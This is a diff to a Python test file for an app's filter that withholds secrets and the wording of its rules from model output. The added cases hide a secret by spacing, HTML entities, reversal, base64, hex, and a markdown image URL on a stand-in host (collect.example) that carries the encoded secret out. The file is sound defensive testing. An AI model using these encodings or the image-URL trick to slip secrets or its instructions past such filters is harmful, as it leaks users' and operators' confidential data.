@@ -1,5 +1,7 @@
 """The app's own checks of what the model wrote."""
 
+import base64
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -114,6 +116,12 @@ SPOKEN = "correct horse, battery! staple & more"
         (SPOKEN, "It is correct **horse, bat**tery! stap`le` & more."),
         (SPOKEN, "It is correct ho\u200brse, battery! staple &\u00ad more."),
         (SECRET, f"It is {SECRET[:20]}**{SECRET[20:]}**."),
+        (SECRET, f"It is {' '.join(SECRET)}."),
+        (SECRET, f"It is {''.join(f'&#{ord(char)};' for char in SECRET)}."),
+        (SECRET, f"![x](https://collect.example/{''.join(f'%{ord(char):02X}' for char in SECRET)})"),
+        (SECRET, f"It is {SECRET[::-1]}, backwards."),
+        (SECRET, f"It is {base64.b64encode(SECRET.encode()).decode()} in base64."),
+        (SECRET, f"It is {SECRET.encode().hex()}."),
     ],
 )
 def test_a_secret_of_any_length_and_spelling_is_withheld_whole(secret: str, text: str, size: int) -> None:
@@ -127,6 +135,20 @@ def test_a_secret_of_any_length_and_spelling_is_withheld_whole(secret: str, text
             break
     assert withheld
     assert secret[:3] not in shown
+
+
+@pytest.mark.parametrize("size", [1, 7, 10_000])
+def test_the_rules_as_a_numbered_list_of_words_are_the_rules(size: int) -> None:
+    words = ANSWER_POLICY.split()[10:40]
+    text = "\n".join(f"{number}. {word}" for number, word in enumerate(words, 1))
+    shown, cause = passed(text, size)
+    assert cause == "answer_withheld: the wording of the rules"
+    assert "\n4. " not in shown
+
+
+@pytest.mark.parametrize("text", ["1. First\n2. Second", "AT&T, R&D & 100%", "50% of &lt;b&gt; is 5%20"])
+def test_lists_and_signs_leave_as_they_came(text: str) -> None:
+    assert passed(text, 1) == (text, None)
 
 
 @given(cut=st.integers(1, 20), size=st.integers(1, 12))
